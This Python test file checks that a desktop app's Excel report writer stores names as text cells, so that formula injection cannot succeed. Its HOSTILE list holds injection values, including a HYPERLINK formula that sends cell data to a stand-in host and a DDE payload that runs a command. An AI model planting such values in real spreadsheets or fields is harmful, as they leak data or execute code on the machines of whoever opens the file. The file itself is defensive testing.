"""Text is text in the workbook: a name from a bundle or typed by an officer is a string cell, never a formula
or an error value, whatever it starts with; the workbook's own formulas stay formulas."""

from __future__ import annotations

from pathlib import Path

from openpyxl import load_workbook

from lhtl_desktop.model.institutions import Institution
from lhtl_desktop.model.records import new_id, now_utc
from lhtl_desktop.services import reports
from lhtl_desktop.storage import Store
from tests.reports.data import GIA_LAM, Built

HOSTILE = [
    '=HYPERLINK("http://x.example/?d="&A1,"click")',
    "=1+1",
    "+SUM(1;2)",
    "-2+3",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "=cmd|' /C calc'!A0",
    "#N/A",
    "#DIV/0!",
]
# What a hostile name would bring into a formula if it ever became one (the part after its trigger character).
PAYLOADS = [p for p in (h.lstrip("\t\r=+-@") for h in HOSTILE) if len(p) > 3]


def test_every_hostile_name_is_a_string_cell(province: Built, store: Store, tmp_path: Path) -> None:
    # Straight into the store, past the name rules: the writer must hold even if a name got through.
    with store.atomic():
        for n, name in enumerate(HOSTILE):
            store.insert_institution(Institution(new_id(), GIA_LAM, "village_house", name, village=name),
                                     created_at=now_utc(), vv={"k": n + 1}, author_key="k", edit_id=new_id())
    out = tmp_path / "bao-cao.xlsx"
    reports.write_report(store, 2025, "37", out)
    wb = load_workbook(out)
    found: dict[str, int] = dict.fromkeys(HOSTILE, 0)
    formulas = 0
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                # XML reads a CR back as LF: "\r=1+1" comes back as "\n=1+1", still text.
                text = str(cell.value).replace("\n", "\r") if isinstance(cell.value, str) else cell.value
                if cell.value in found or text in found:
                    assert cell.data_type == "s", (ws.title, cell.coordinate, cell.value, cell.data_type)
                    found[cell.value if cell.value in found else text] += 1
                elif cell.data_type == "f":
                    formulas += 1
                    # The workbook's own formulas (totals, counts, status): built from references and our words.
                    assert not any(p in str(cell.value) for p in PAYLOADS), (ws.title, cell.coordinate, cell.value)
                assert cell.data_type != "e", (ws.title, cell.coordinate, cell.value)
    assert all(found.values()), found  # each name is in the workbook (the «missing data» sheet at least)
    assert formulas > 10  # the totals and results are still formulas


def test_a_formula_looking_string_written_by_the_workbook_itself_is_text(tmp_path: Path) -> None:
    """The cell writers on their own: only `_formula` writes a formula."""
    from openpyxl import Workbook

    from lhtl_desktop.services.reports.xlsx import _formula, _put, _text_is_text

    wb = Workbook()
    ws = wb.active
    assert ws is not None
    _put(ws, 1, 1, "=1+1")
    _formula(ws, 1, 2, "=1+1")
    ws.cell(row=1, column=3, value="=2+2")  # written around the helper: the sweep before saving catches it
    _text_is_text(wb)
    wb.save(tmp_path / "t.xlsx")
    back = load_workbook(tmp_path / "t.xlsx").active
    assert back is not None
    assert [c.data_type for c in back[1]] == ["s", "f", "s"]
